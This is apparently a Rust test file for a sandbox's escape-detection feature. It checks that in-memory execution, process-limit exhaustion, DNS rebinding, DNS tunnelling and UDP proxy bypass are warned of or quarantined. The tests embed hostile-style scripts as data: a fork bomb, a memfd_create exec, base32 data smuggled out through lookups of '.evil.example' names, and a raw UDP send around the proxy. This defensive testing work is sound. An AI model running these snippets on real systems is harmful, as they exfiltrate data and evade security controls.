//! Indicators of an attempt to break out that need more than a shell: a list of programs, a limit, a network (ESC-1).

use palisade_testkit::{Output, World};

use crate::egress_support::Net;
use crate::escape_response::{escape_of, ids, policy, quarantined};
use crate::limits_told::forks;

/// Warned of first, and then ended for. Both are told apart from a command that just failed.
#[track_caller]
fn assert_indicates(id: &str, severity: &str, run: impl Fn(&str, &str) -> (Output, bool)) {
    let key = format!("on{severity}");
    // A reached limit makes a failure of a success.
    let (warned, _) = run(&format!("{key}: warn"), "exit 3");
    assert!(warned.code() != 137, "{id}: {}", warned.err());
    assert!(ids(&warned).iter().any(|seen| seen == id), "{id}: {:?}{}", ids(&warned), warned.err());
    let (ended, is_quarantined) = run(&format!("{key}: quarantine"), "sleep 1000");
    ended.assert_code(137);
    assert_eq!(escape_of(&ended)["response"]["indicator"], id, "{}", ended.err());
    assert!(is_quarantined, "{id} is not in the list");
}

fn in_world(flags: &[&str], more: &str, script: &str, escape: &str, end: &str) -> (Output, bool) {
    let world = World::new();
    let text = format!("version: 1\nescape: {{ {escape} }}\n{more}");
    let policy = world.write("policy.yaml", text).display().to_string();
    let flags = [&["--policy", &policy], flags].concat();
    let script = format!("{script}; {end}");
    let output = world.sandbox_run(&flags, ["sh", "-c", &script]).run();
    (output, !quarantined(&world).is_empty())
}

/// Proves: ESC-1 indicators
#[test]
fn a_program_in_memory_is_an_indicator_where_programs_are_listed() {
    let listed = "process: { allowedExecutables: [/bin, /usr/bin] }\n";
    let script = "/usr/bin/python3 -c 'import os; os.memfd_create(\"x\")'";
    assert_indicates("process.memory-exec", "High", |escape, end| {
        in_world(&[], listed, script, escape, end)
    });
}

/// Proves: ESC-1 indicators
#[test]
fn a_reached_limit_of_processes_is_an_indicator() {
    let script = format!("/usr/bin/python3 -c '{}'", forks(40));
    assert_indicates("process.limit", "Low", |escape, end| {
        in_world(&["--static", "--pids", "20"], "", &script, escape, end)
    });
}

fn in_net(host: &str, script: &str, escape: &str, end: &str) -> (Output, bool) {
    let net = Net::new();
    let policy = policy(&net.world, escape);
    let flags = ["--policy", &policy, "--allow-host", host, "--on-ask", "deny"];
    let output = net.script(&flags, &format!("{script}; {end}"));
    (output, !quarantined(&net.world).is_empty())
}

/// Proves: ESC-1 indicators
#[test]
fn an_allowed_name_with_a_forbidden_address_is_an_indicator() {
    let script = "curl -s --max-time 10 http://private.example/";
    assert_indicates("network.rebind", "High", |escape, end| {
        in_net("*.example", script, escape, end)
    });
}

/// Proves: ESC-1 indicators, NET-6 tunnelling
#[test]
fn names_that_look_like_data_are_an_indicator() {
    let script = "/usr/bin/python3 -c '
import base64, os, socket
for _ in range(80):
    data = base64.b32encode(os.urandom(35)).decode().lower().rstrip(\"=\")
    try: socket.gethostbyname(data[:50] + \".evil.example\")
    except OSError: pass
'";
    assert_indicates("network.tunnel", "High", |escape, end| {
        in_net("*.evil.example", script, escape, end)
    });
}

/// Proves: ESC-1 indicators, NET-5 datagrams
#[test]
fn packets_that_go_around_the_proxy_are_an_indicator() {
    let script = "/usr/bin/python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
try:
    s.connect((\"203.0.113.10\", 443)); s.send(b\"carried out\"); s.recv(10)
except OSError: pass
'";
    assert_indicates("network.bypass", "Medium", |escape, end| {
        in_net("web.example", script, escape, end)
    });
}
